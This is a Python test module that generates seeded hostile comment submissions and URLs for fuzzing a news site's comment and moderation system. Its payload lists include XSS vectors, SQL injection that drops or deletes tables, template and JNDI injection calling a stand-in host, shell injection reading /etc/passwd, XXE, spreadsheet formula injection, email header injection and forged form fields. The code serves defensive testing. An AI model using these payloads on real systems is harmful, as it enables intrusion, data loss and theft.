"""Hostile submissions, made from a seed: what attackers, programs and the merely odd send.

Whatever of it could become markup bears `MARK` in each name that a parser would find.
"""

import random
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

MARK = "hostile"
CALL = f"{MARK}()"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
UNSEEN = (
    "\u200b\u2060\ufeff\u00ad\u180e\u00a0\u3164\u2800\u034f\u2028\u2029\U000e0041\ufff9"
    # No letters at all, and of two of them no XML is made.
    "\u2062\u206a\ufe0f\U000e0100\u1160\u0085\ufdd0\U0001fffe\ufffe\uffff"
)
JOINERS = "\u200c\u200d"
SCRIPTS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</title></style></noscript><{MARK} onclick={CALL}>",
    f"<img src=x onerror={CALL}>",
    f'"><svg/onload={CALL}>',
    f"' autofocus onfocus='{CALL}",
    f'" {MARK}="1" onmouseover="{CALL}',
    f"<a href='javascript:{CALL}'>here</a>",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<math><mtext></mtext><{MARK}><mglyph><style><!--</style><img src onerror={CALL}>",
    f"<!--<img src=--><img src=x onerror={CALL}>//-->",
    f"<![CDATA[<{MARK}>]]>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]><x/>",
    f"<style>@import'//{MARK}.example';*{{color:red}}</style>",
    f"<link rel=stylesheet href=//{MARK}.example><base href=//{MARK}.example>",
    f"<form action=//{MARK}.example><button formaction=//{MARK}.example>Send</button></form>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;{MARK}&#62; &amp;lt;{MARK}&amp;gt;",
    f"%3C{MARK}%3E \\u003c{MARK}\\u003e",
    f"<scr\u200bipt>{CALL}</scr\u200bipt><\x00script>{CALL}</script>",
    f"＜{MARK}＞ ‹{MARK}› <\u0338{MARK}>",
    f"[x](javascript:{CALL}) ![x](x){{onerror={CALL}}}",
)
QUERIES = (
    "'; DROP TABLE dateline_discussion_comment; --",
    "' OR '1'='1",
    "1); DELETE FROM dateline_discussion_comment WHERE (1=1",
    "%' AND 1=CAST((SELECT 1) AS int) --",
    "\\'; SELECT pg_sleep(9); --",
    '" UNION SELECT email_encrypted FROM dateline_discussion_contact --',
)
TEMPLATES = (
    "{{ 7|add:7 }}{% load static %}{% debug %}",
    "{{ settings.SECRET_KEY }} {{ request.META }}",
    "${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7)",
    "%(name)s %s %d {0} {name} {name.__class__.__mro__} %%",
    "${jndi:ldap://hostile.example/x}",
    "$(touch /tmp/hostile) `id` | cat /etc/passwd",
    "../../../../etc/passwd%00.html",
)
# What a spreadsheet would work out, and one in East Asia.
FORMULAS = (
    '=HYPERLINK("//hostile.example")', "=cmd|'/C calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", '";=1+1;"', '",=1+1,"',
)  # fmt: skip
# Names that would be somebody's of the house, or the page's own words.
POSES = (
    "Staff", "Signe Tarn \u2713 Staff", "Gazette\u00a0\u2714", "Ｓｔａｆｆ", "Ѕtаff",
    "Editor’s pick", "Removed by a moderator.",
    "Signe Tarn</bdi> <span class='badge'>Staff</span><bdi>",
    "Signe Tarn\u2003\u2003\u2003Staff", "%(name)s", "in reply to Signe Tarn", "🛡️ Moderator",
)  # fmt: skip
# What a request says of itself besides its form.
REQUESTS = (
    {"origin": "http://["}, {"origin": "http://[x]"}, {"origin": "http://ex\u2100mple"},
    {"origin": "http://testserver@hostile.example"}, {"origin": "http://testserver.hostile.example"},
    {"origin": "null"}, {"origin": "null", "sec-fetch-site": "cross-site"},
    {"referer": "http://]/"}, {"sec-fetch-site": "\u00fc"},
    {"host": "hostile.example"}, {"host": "testserver:99999"}, {"host": "[::1"},
    {"x-forwarded-host": "hostile.example", "x-original-url": "/admin/"},
    {"x-forwarded-for": "127.0.0.1, [::1], unknown" + ",1" * 3000, "forwarded": "for=_x;host=x"},
    {"x-http-method-override": "DELETE", "x-method-override": "PUT"},
    {"cookie": 'sessionid="\\000\\000\\000\\000\\000\\000\\000\\000"; csrftoken=' + "%" * 99},
    {"cookie": "sessionid=" + "a" * 9000 + "; messages=[[x; django_language=../../x"},
    {"content-encoding": "gzip", "transfer-encoding": "chunked"},
    {"accept-language": "x" * 9000 + ",ar;q=9", "accept": "x/y;q=z"},
    {"accept-encoding": "gzip;q=\u00b2, *;q=" + "9" * 5000},
    {"if-none-match": "W/" * 3000, "if-modified-since": "Mon, 99 Jan 99999 00:00:00 GMT"},
    {"range": "bytes=-99999999999", "if-match": "*", "expect": "100-continue"},
    {"authorization": "Bearer \u00fc", "user-agent": f"<script>{CALL}</script>"},
    {"content-length": "abc"}, {"content-length": "-1"}, {"content-length": ""},
)  # fmt: skip
HEADERS = (
    "Odd\r\nBcc: all@hostile.example",
    "Odd\nSubject: hostile\n\nhostile",
    "Odd%0d%0aBcc:%20all@hostile.example",
    "Odd\u2028Bcc: all@hostile.example",
    "=?utf-8?q?hostile=0d=0aBcc:_all=40hostile.example?=",
    '"Odd" <all@hostile.example>, Odd',
)
ADDRESSES = (
    "odd@example.org\r\nBcc: all@hostile.example",
    "odd@example.org,all@hostile.example",
    "odd@example.org;all@hostile.example",
    "<odd@example.org>",
    '"odd\\\r\nBcc: all"@hostile.example',
    '"a b\\"c"@example.org',
    '"odd@hostile.example"@example.org',
    '"\x01\x02"@example.org',
    '"odd,all"@example.org',
    "odd@[192.0.2.1]",
    "odd@[127.0.0.1]",
    "odd@xn--80ak6aa92e.example",
    "odd@b\u00fccher.example",
    "o\u0434d@example.org",
    "-odd@example.org",
    "--odd=x@example.org",
    "|touch /tmp/hostile@example.org",
    f"{'o' * 64}@example.org",
    f"odd@{'o' * 63}.example",
    f"odd@{'o.' * 120}org",
    "odd@localhost",
)
LETTERS = (
    "aeinorst АВСЕаеіоԁ मरीज نوخ 東京 ÅÉé\u0301\u0344\ufb2c\u0958 "
    "🏴\u200d☠️ 👩\u200d👩\u200d👧 Z\u0351\u0352\u0353\u0354"
)
FORGED = {
    "state": "shown", "id": "1", "pk": "1", "author": "1", "author_id": "1", "badge": "staff",
    "is_listed": "on", "picked_at": "2026-11-23", "verified_at": "2026-11-23", "version": "9",
    "story": "1", "story_id": "1", "parent": "1", "root": "1", "submitted_at": "2000-01-01",
    "claimed_by": "1", "csrfmiddlewaretoken": "x", "_method": "DELETE", "form_hash": "x",
    "account": "1", "nonce": "calm-1", "was_nudged": "1", "reply_number": "1", "shown_replies": "9",
    "address_hash": "x", "next": "//hostile.example", "erased_at": "2026-11-23",
}  # fmt: skip


@dataclass
class Submission:
    """One comment form as somebody sends it.

    ticket      which the form carries: its own, or one of `TICKETS`
    answers     whether it answers a comment: the newest shown one, or the last of a deep thread
    presses     how often the button is pressed
    more        fields that no reader may set
    content     the body as it is, with its type, in place of the fields
    headers     what the request says of itself, beside or in place of what a browser would
    """

    kind: str
    name: str = "Odd Lind"
    email: str = "odd@example.org"
    text: str = "A fair account of a long quarrel."
    ticket: str = "own"
    answers: str = ""
    presses: int = 1
    more: dict[str, Any] = field(default_factory=dict)
    content: tuple[bytes, str] | None = None
    headers: dict[str, str] = field(default_factory=dict)

    @property
    def fields(self) -> dict[str, Any]:
        """Return the form's fields but for the ticket."""
        return {"name": self.name, "email": self.email, "text": self.text} | self.more


# Those of a form for another story, for a comment that is gone or under another story; one changed
# by a letter, private links, nothing; one that somebody used, or that is too old, or not given out
# yet.
TICKETS = (
    "other story", "gone parent", "parent elsewhere", "changed", "private link", "mail link", "",
    "long", "binary", "used", "old", "of tomorrow",
)  # fmt: skip
NUMBERS = ("9" * 5000, "9" * 19, "-1", "0", "٣", "²", "1e9", "1_000", "\x00", "NaN", "")
PATHS = (
    "/story/{id}/comments/?sort={x}&cursor={x}", "/story/{id}/comments/?cursor={n}-{n}",
    "/story/{id}/comments/new/?parent={n}", "/story/{id}/comments/new/?fragment&parent={x}",
    "/story/{id}/comments/{n}/?after={n}", "/story/{id}/comments/1/?after={n}",
    "/story/{id}/comments/1/?after={x}", "/story/{x}/comments/", "/comments/report/{n}/",
    "/comments/decisions/?after={n}-{n}", "/comments/decisions/?after={x}", "/comments/mine/{x}/",
    "/comments/mine/{x}/edit/", "/comments/verify/{x}/", "/comments/unsubscribe/{x}/",
    "/comments/me/{x}/", "/search/?q={x}&page={n}", "/topic/{x}/", "/{x}/", "/?page={n}",
    "/story/{id}/{x}/", "/api/stories/{x}", "/api/stories?limit={n}&offset={n}&page={n}",
    "/world/?page={n}", "/feeds/{x}/atom.xml", "/picture/{n}/{n}.jpeg", "/sitemap-{n}.xml",
    "/story/{id}/comments/{n}/?{x}={x}", "/story/{id}/comments/?sort=oldest&sort={x}",
    "/api/stories/{id}/comments?sort={x}&cursor={n}-{n}&limit={n}",
    "/api/stories/{id}/comments/count?seen={x}", "/api/stories/{id}/comments/{n}/answers?after={n}",
    "/comments/account/?story={x}&next=//hostile.example", "/comments/account/sign-in/{x}/",
    "/comments/account/{n}/edit/", "/comments/me/{x}/csv/", "/comments/mine/{x}/verify-again/",
    "//hostile.example/{x}", "/%5chostile.example/{x}", "/{x}//hostile.example",
    "/admin/login/?next=//hostile.example/{x}", "/_util/login/{n}/{n}/?next=//hostile.example",
)  # fmt: skip
ROOM = (
    "/admin/comments/?queue={x}&story={n}&phase={x}&words={x}&after={n}-{n}",
    "/admin/comments/?queue=all&words={x}&after={x}", "/admin/comments/authors/{x}/",
    "/admin/comments/lists/{x}/", "/admin/comments/figures/?after={n}&story={x}",
    "/admin/comments/{n}/claim/", "/admin/comments/?done={x}", "/admin/comments/outside/{x}/",
)  # fmt: skip


def addresses(seed: int, public_id: str) -> Iterator[str]:
    """Yield hostile addresses of readers' and, each tenth, of moderators' pages, for ever."""
    chance = random.Random(seed)
    while True:
        for pattern in (*chance.choices(PATHS, k=9), chance.choice(ROOM)):
            words = chance.choice((*SCRIPTS, *QUERIES, *TEMPLATES, *NUMBERS, BIDI, "x" * 9000))
            numbers = quote(chance.choice(NUMBERS), safe="")
            yield pattern.format(id=public_id, x=quote(words, safe=""), n=numbers)


def submissions(seed: int) -> Iterator[Submission]:
    """Yield hostile submissions for ever, the same ones for the same seed."""
    chance = random.Random(seed)
    kinds = sorted(MAKERS)
    number = 0
    while True:
        number += 1
        kind = kinds[number % len(kinds)] if number <= len(kinds) else chance.choice(kinds)
        made = MAKERS[kind](chance)
        made.kind = kind
        if made.email == "odd@example.org":
            made.email = f"odd.{number}@example.org"
        yield made


def _words(chance: random.Random) -> str:
    return " ".join(chance.choice(LETTERS.split()) for _ in range(chance.randint(1, 12)))


def _among(chance: random.Random, payloads: tuple[str, ...]) -> str:
    """Return payloads among words, some of them torn apart or doubled."""
    parts = [chance.choice(payloads) for _ in range(chance.randint(1, 3))]
    if chance.random() < 0.2:
        cut = chance.randrange(len(parts[0]))
        parts[0] = parts[0][:cut] + chance.choice(BIDI + UNSEEN + "\x00\x1b") + parts[0][cut:]
    parts.insert(chance.randrange(2), _words(chance))
    return chance.choice((" ", "\n", "\r\n\r\n", "")).join(parts)


def _payload(payloads: tuple[str, ...]) -> Callable[[random.Random], Submission]:
    def make(chance: random.Random) -> Submission:
        made = Submission("", text=_among(chance, payloads))
        if chance.random() < 0.5:
            made.name = _among(chance, payloads)[: chance.choice((60, 60, 200))]
        return made

    return make


def _unseen(chance: random.Random) -> Submission:
    letters = list(_words(chance))
    for _ in range(chance.randint(1, 40)):
        letters.insert(chance.randrange(len(letters) + 1), chance.choice(BIDI + UNSEEN + JOINERS))
    text = "".join(letters)
    only = "".join(chance.choices(BIDI + UNSEEN + JOINERS, k=chance.randint(1, 30)))
    name = chance.choice((text[:60], only, "Signe\u200d Tarn", "Ѕіgnе Таrn", "\u202eadmin"))
    return Submission("", name=name, text=chance.choice((text, only)))


def _huge(chance: random.Random) -> Submission:
    size = chance.choice((3999, 4000, 4001, 16_000, 65_000, 300_000, 3_000_000))
    units = (
        *("x", "\ufb2c", "e\u0301", "🏴\u200d☠️", "\n", "<b>", "\u0344", "न", "&"),
        # One letter for eighteen, for three; what patterns for links and words begin at.
        *("\ufdfa", "\U0001d160", "http://", "www.", "a.", "@a.", "((", "a- ", "* ", "!?"),
    )
    unit = chance.choice(units)
    text = (unit * size)[:size]
    made = Submission("", text=text)
    if chance.random() < 0.3:
        made.text, made.name = "A word.", text[: chance.choice((60, 61, 5000))]
    return made


def _binary(chance: random.Random) -> Submission:
    raw = chance.randbytes(chance.randint(1, 400))
    made = Submission("", text=raw.decode("latin-1"))
    if chance.random() < 0.5:
        kind = chance.choice((
            "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=hex",
            "application/x-www-form-urlencoded; charset=utf-16", "multipart/form-data",
            "multipart/form-data; boundary=x", "multipart/form-data; boundary=x; charset=hex",
            f"multipart/form-data; boundary={'x' * 300}", "application/json", "text/plain", "",
            "multipart/form-data; boundary=\u00fc",
        ))  # fmt: skip
        part = (
            b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\n' + raw + b"\r\n--x--\r\n"
        )
        many = b"&".join(b"text=%d" % n for n in range(1200))
        made.content = (chance.choice((raw, part, b"text=%ff%fe%00&ticket=%", many, b"")), kind)
    return made


def _forged(chance: random.Random) -> Submission:
    names = chance.sample(sorted(FORGED), chance.randint(1, len(FORGED)))
    made = Submission("", text=_words(chance), more={name: FORGED[name] for name in names})
    if chance.random() < 0.2:
        made.more |= {"wants_replies": ["on", "\x00", "1"], "text": ["first", "second"]}
    return made


def _header(chance: random.Random) -> Submission:
    address = chance.choice(ADDRESSES)
    return Submission("", name=chance.choice(HEADERS), email=address, text=_words(chance))


def _ticket(chance: random.Random) -> Submission:
    return Submission("", text=_words(chance), ticket=chance.choice(TICKETS))


def _answer(chance: random.Random) -> Submission:
    return Submission("", text=_among(chance, SCRIPTS), answers=chance.choice(("shown", "deep")))


def _formula(chance: random.Random) -> Submission:
    made = Submission("", text=chance.choice(FORMULAS) + chance.choice((_words(chance), "")))
    made.name = chance.choice(FORMULAS)
    return made


def _pose(chance: random.Random) -> Submission:
    return Submission("", name=chance.choice(POSES), text=_among(chance, POSES))


def _request(chance: random.Random) -> Submission:
    headers = dict(chance.choice(REQUESTS))
    return Submission("", text=_words(chance), headers=headers)


def _double(chance: random.Random) -> Submission:
    presses = chance.choice((2, 2, 2, 4))
    return Submission("", text=_among(chance, SCRIPTS + QUERIES), presses=presses)


MAKERS: dict[str, Callable[[random.Random], Submission]] = {
    "script": _payload(SCRIPTS),
    "query": _payload(QUERIES),
    "template": _payload(TEMPLATES),
    "unseen": _unseen,
    "huge": _huge,
    "binary": _binary,
    "forged": _forged,
    "header": _header,
    "ticket": _ticket,
    "answer": _answer,
    "double": _double,
    "formula": _formula,
    "pose": _pose,
    "request": _request,
}


def letters_of(text: str) -> str:
    """Return what of a text can be seen and counts: without spaces, controls and format marks.

    Written apart from the product's own cleaning, so that the two can disagree.
    """
    unseen = ("Cc", "Cf", "Cs", "Zs", "Zl", "Zp")
    seen = "".join(one for one in text if unicodedata.category(one) not in unseen)
    return unicodedata.normalize("NFC", seen)
